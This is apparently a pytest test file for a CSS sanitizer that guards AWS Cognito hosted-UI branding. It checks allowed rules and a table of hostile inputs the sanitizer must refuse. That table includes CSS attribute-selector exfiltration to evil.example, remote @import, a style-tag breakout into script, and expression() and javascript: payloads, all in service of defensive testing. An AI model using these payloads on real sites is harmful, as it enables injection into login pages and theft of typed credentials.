"""The CSS of classic customizations: what is taken is written anew, everything else is refused and says why."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from poolhouse.domain.pools.branding.css import CLASSES, PROPERTIES, SELECTORS, sanitized
from poolhouse.domain.pools.refusals import InvalidSetting

# AWS's documentation, class by class (reference oauth 5.3), with a value for each.
DOCUMENTED = {
    "label": "font-weight: 400; color: #333",
    "inputField": "width: 100%; height: 34px; color: #555; background-color: #fff; border: 1px solid #ccc",
    "inputField:focus": "border-color: #66afe9; outline: 0",
    "textDescription": "padding-top: 10px; padding-bottom: 10px; display: block; font-size: 16px; color: red",
    "idpDescription": "padding-top: 10px; padding-bottom: 10px; display: block; font-size: 16px; color: red",
    "submitButton": "font-size: 14px; font-weight: bold; margin: 20px 0px 10px 0px; width: 100%; height: 40px;"
    " color: #fff; background-color: #337ab7",
    "submitButton:hover": "color: #fff; background-color: #286090",
    "banner": "padding: 25px 0px 25px 0px; background-color: lightgray",
    "errorMessage": "margin: 5px; padding: 5px; font-size: 14px; width: 100%; background: #F5F5F5;"
    " border: 2px solid #D64958; color: #D64958; box-sizing: border-box",
    "idpButton": "height: 40px; width: 100%; text-align: center; margin-bottom: 15px; color: #fff;"
    " background-color: #5bc0de; border-color: #46b8da",
    "idpButton:hover": "color: #fff; background-color: #31b0d5",
    "legalText": "color: #747474; font-size: 11px",
    "logo": "max-width: 60%; max-height: 30%; background-color: #fff",
    "background": "background-color: #fff",
    "passwordCheck-valid": "color: #19BF00",
    "passwordCheck-notValid": "color: #DF3312",
    "socialButton": "height: 40px; text-align: left; width: 100%; margin-bottom: 15px",
    "redirect": "text-align: center",
}


@pytest.mark.parametrize("name", DOCUMENTED)
def test_what_aws_documents(name: str) -> None:
    base, _, state = name.partition(":")
    selector = f".{base}-customizable{':' + state if state else ''}"
    declarations = [f"{each.strip()};" for each in DOCUMENTED[name].split(";")]
    assert sanitized(f"{selector} {{\n\t{DOCUMENTED[name]}\n}}") == f"{selector} {{ {' '.join(declarations)} }}\n"


def test_every_class_is_documented() -> None:
    assert {f".{name.replace(':', '-customizable:')}" for name in DOCUMENTED if ":" in name} | {
        f".{name}-customizable" for name in DOCUMENTED if ":" not in name
    } == SELECTORS
    assert set(CLASSES) == {name.partition(":")[0] for name in DOCUMENTED}


@pytest.mark.parametrize(
    ("css", "written"),
    [
        pytest.param("", "", id="nothing"),
        pytest.param("  /* only a comment */ ", "", id="a comment"),
        pytest.param(".label-customizable{}", ".label-customizable {  }\n", id="an empty rule"),
        pytest.param(
            ".label-customizable{COLOR:Red!important}",
            ".label-customizable { color: Red !important; }\n",
            id="important, letters of any case",
        ),
        pytest.param(
            ".redirect-customizable, .legalText-customizable{color:#0f3d30}",
            ".redirect-customizable, .legalText-customizable { color: #0f3d30; }\n",
            id="several classes",
        ),
        pytest.param(
            ".banner-customizable{background:linear-gradient(1deg, rgba(1,2,3,.5), #fff calc(5% + (2px)))}",
            ".banner-customizable { background: linear-gradient(1deg, rgba(1,2,3,.5), #fff calc(5% + (2px))); }\n",
            id="gradients and sums",
        ),
        pytest.param(
            ".banner-customizable{font-family:'Plus Jakarta Sans', sans-serif}",
            '.banner-customizable { font-family: "Plus Jakarta Sans", sans-serif; }\n',
            id="a name of a font",
        ),
        pytest.param(
            ".l\\61 bel-customizable{c\\6flor:r\\65 d}", ".label-customizable { color: red; }\n", id="escapes"
        ),
        pytest.param(
            ".label-customizable{color:red", ".label-customizable { color: red; }\n", id="no end, as browsers do"
        ),
        pytest.param(
            ".label-customizable{color:/* </style> */red}",
            ".label-customizable { color: red; }\n",
            id="a comment inside",
        ),
    ],
)
def test_what_is_taken_is_written_anew(css: str, written: str) -> None:
    assert sanitized(css) == written
    assert sanitized(written) == written


BANNER = ".banner-customizable"
NO_RULE = "Invalid CSS in line 1: a rule with its {} block is expected."
NO_DECLARATION = "Invalid CSS in line 1: a property, a colon and a value is expected."
AT_RULE = "The CSS at-rule @{} is not allowed."
CLASS = "The CSS class {} is not in the list of allowed classes."
VALUE = "The CSS value of {} in .banner-customizable is not allowed: {}"
PROPERTY = "The CSS property {} is not allowed in .banner-customizable."
HOSTILE = {
    # Selectors
    "body { color: red }": CLASS.format("body"),
    "* { color: red }": CLASS.format("*"),
    ":root { color: red }": CLASS.format(":root"),
    "#username { color: red }": CLASS.format("#username"),
    ".other { color: red }": CLASS.format(".other"),
    ".Banner-customizable { color: red }": CLASS.format(".Banner-customizable"),
    ".banner-customizable.other { color: red }": CLASS.format(".banner-customizable.other"),
    ".banner-customizable input { color: red }": CLASS.format(".banner-customizable input"),
    ".banner-customizable > a { color: red }": CLASS.format(".banner-customizable > a"),
    ".banner-customizable ~ form { color: red }": CLASS.format(".banner-customizable ~ form"),
    ".banner-customizable, body { color: red }": CLASS.format("body"),
    ".banner-customizable, { color: red }": CLASS.format(""),
    ".banner-customizable:hover { color: red }": CLASS.format(".banner-customizable:hover"),
    ".submitButton-customizable:active { color: red }": CLASS.format(".submitButton-customizable:active"),
    ".banner-customizable::before { color: red }": CLASS.format(".banner-customizable::before"),
    ".banner-customizable::after { content: 'x' }": CLASS.format(".banner-customizable::after"),
    'input[value^="a"] { background: url(//evil.example/a) }': CLASS.format("input["),
    ".inputField-customizable[value^=a] { color: red }": CLASS.format(".inputField-customizable["),
    ".banner-customizable:not(body) { color: red }": CLASS.format(".banner-customizable:not("),
    "{ color: red }": CLASS.format(""),
    "((((((((((((((((((((({ color: red }": NO_RULE,
    # Rules about rules
    "@import url(https://evil.example/x.css);": AT_RULE.format("import"),
    "@import 'x';": AT_RULE.format("import"),
    "@im\\70ort 'x';": AT_RULE.format("import"),
    "@media print { .banner-customizable { color: red } }": AT_RULE.format("media"),
    "@supports (display: grid) { .banner-customizable { color: red } }": AT_RULE.format("supports"),
    "@page { margin: 0 }": AT_RULE.format("page"),
    "@font-face { font-family: x; src: url(x) }": AT_RULE.format("font-face"),
    "@keyframes x { from { color: red } }": AT_RULE.format("keyframes"),
    "@namespace url(x);": AT_RULE.format("namespace"),
    "@charset 'utf-7';": AT_RULE.format("charset"),
    BANNER + " { @import 'x'; }": AT_RULE.format("import"),
    BANNER + " { color: red; } </style><script>alert(1)</script>": NO_RULE,
    BANNER + " { } <script>{}": CLASS.format("<script>"),
    BANNER + " { color: red } }": NO_RULE,
    "just words": NO_RULE,
    # Properties
    BANNER + " { position: fixed }": PROPERTY.format("position"),
    BANNER + " { z-index: 9999 }": PROPERTY.format("z-index"),
    BANNER + " { behavior: url(x.htc) }": PROPERTY.format("behavior"),
    BANNER + " { -moz-binding: url(x.xml#x) }": PROPERTY.format("-moz-binding"),
    BANNER + " { content: 'x' }": PROPERTY.format("content"),
    BANNER + " { --ph-text: red }": PROPERTY.format("--ph-text"),
    BANNER + " { animation: x 1s }": PROPERTY.format("animation"),
    BANNER + " { transform: scale(100) }": PROPERTY.format("transform"),
    BANNER + " { float: left }": PROPERTY.format("float"),
    BANNER + " { color }": NO_DECLARATION,
    BANNER + " { color: }": "The CSS property color in .banner-customizable has no value.",
    BANNER + " { color: red; body { color: red } }": NO_DECLARATION,
    # Values
    BANNER + " { background: url(https://evil.example/x) }": VALUE.format(
        "background", "url(https://evil.example/x)"
    ),
    BANNER + " { background: url('data:image/svg+xml,x') }": VALUE.format("background", "url("),
    BANNER + " { background: u\\72l(x) }": VALUE.format("background", "url(x)"),
    BANNER + " { background: URL(x) }": VALUE.format("background", "url(x)"),
    BANNER + " { background: image-set('x' 1x) }": VALUE.format("background", "image-set("),
    BANNER + " { background: image('x') }": VALUE.format("background", "image("),
    BANNER + " { background: element(#username) }": VALUE.format("background", "element("),
    BANNER + " { background: src('x') }": VALUE.format("background", "src("),
    BANNER + " { color: expression(alert(1)) }": VALUE.format("color", "expression("),
    BANNER + " { color: javascript:alert(1) }": VALUE.format("color", ":"),
    BANNER + " { color: var(--ph-text) }": VALUE.format("color", "var("),
    BANNER + " { color: env(x) }": VALUE.format("color", "env("),
    BANNER + " { color: attr(value) }": VALUE.format("color", "attr("),
    BANNER + " { color: {} }": VALUE.format("color", "{"),
    BANNER + " { color: [x] }": VALUE.format("color", "["),
    BANNER + " { color: (x) }": VALUE.format("color", "("),
    BANNER + " { color: @x }": VALUE.format("color", "@x"),
    BANNER + " { color: red <b> }": VALUE.format("color", "<"),
    BANNER + " { font-family: '</style><script>' }": VALUE.format("font-family", '"</style><script>"'),
    BANNER + " { font-family: '\\3c/style>' }": VALUE.format("font-family", '"</style>"'),
    BANNER + " { font-family: 'a\\a b' }": VALUE.format("font-family", '"a\\A b"'),
    BANNER + " { font-family: 'x }": VALUE.format("font-family", "eof-in-string"),
    BANNER + " { color: " + "calc(" * 5000 + " }": VALUE.format("color", "calc("),
    BANNER + " { color: " + "(" * 5000 + " }": VALUE.format("color", "("),
}


@pytest.mark.parametrize("css", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_css(css: str) -> None:
    with pytest.raises(InvalidSetting) as refused:
        sanitized(css)
    assert str(refused.value) == HOSTILE[css]


def test_the_table_is_long() -> None:
    assert len(HOSTILE) >= 60


def test_a_refusal_is_short() -> None:
    with pytest.raises(InvalidSetting) as refused:
        sanitized(f".{'x' * 100_000} {{}}")
    assert len(str(refused.value)) < 200


PIECES = st.sampled_from(
    [
        *sorted(SELECTORS),
        *sorted(PROPERTIES),
        *"{}()[];:,.'\"<>/*\\@!#",
        "url(",
        "calc(",
        "red",
        "\n",
        "\0",
        "é",
        "-->",
    ]
)


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=30).map(" ".join))
def test_whatever_comes_out_is_harmless(css: str) -> None:
    try:
        written = sanitized(css)
    except InvalidSetting:
        return
    assert sanitized(written) == written
    assert re.search(r"url\(|@|<|\\|/\*", written, re.IGNORECASE) is None
